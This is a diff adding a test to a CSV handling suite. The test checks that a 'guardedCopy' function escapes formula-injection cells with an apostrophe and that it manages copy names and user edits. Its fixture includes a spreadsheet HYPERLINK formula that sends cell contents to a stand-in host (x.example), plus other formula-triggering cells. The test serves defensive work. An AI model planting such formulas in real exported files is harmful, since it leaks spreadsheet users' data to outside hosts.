@@ -1,5 +1,9 @@
+import { readFileSync, utimesSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { expect, test } from 'vitest';
+import { guardedCopy } from '../../../main/engine/sheets/guarded-copy.ts';
 import { enrichedCsv, openCsv, readAll } from '../../support/files/csv-fixture.ts';
+import { tempDir } from '../../support/files/temp-dir.ts';
 
 test.each([
   [',', 'a,b\nx.com,1\n', 'a,b,New\nx.com,1,v2\n'],
@@ -105,4 +109,31 @@ test('a UTF-16 file that ends within a character is refused, not shortened', asy
     const { file } = await openCsv(bytes.subarray(0, -1));
     await expect(readAll(file)).rejects.toMatchObject({ code: 'file_damaged' });
   }
+});
+
+test('what the service wrote is opened elsewhere as a copy whose cells are guarded, unless no cell needs it', async () => {
+  const folder = tempDir();
+  const write = (name: string, text: string) => {
+    const path = join(folder, name);
+    writeFileSync(path, text);
+    return path;
+  };
+  const harmless = write('harmless.csv', 'Domain,Rank\r\na.com,-1\r\nb.com,"+2,5"\r\n');
+  expect(await guardedCopy(harmless)).toBe(harmless);
+  const text =
+    'Domain,Title\r\na.com,"=HYPERLINK(""http://x.example/?""&A1,""Info"")"\r\nb.com,fine\r\n@sum,x;=1+1\r\n';
+  const list = write('list.csv', text);
+  const copy = await guardedCopy(list);
+  expect(copy).toBe(join(folder, 'list (guarded).csv'));
+  expect(readFileSync(copy, 'utf8')).toBe(
+    `Domain,Title\r\na.com,"'=HYPERLINK(""http://x.example/?""&A1,""Info"")"\r\nb.com,fine\r\n'@sum,"x;'=1+1"\r\n`,
+  );
+  expect(readFileSync(list, 'utf8')).toBe(text);
+  // What a person changed in it is theirs, until the list is downloaded again.
+  writeFileSync(copy, 'mine');
+  expect(await guardedCopy(list)).toBe(copy);
+  expect(readFileSync(copy, 'utf8')).toBe('mine');
+  utimesSync(list, new Date(), new Date(Date.now() + 60_000));
+  expect(await guardedCopy(list)).toBe(join(folder, 'list (guarded) (2).csv'));
+  expect(readFileSync(copy, 'utf8')).toBe('mine');
 });
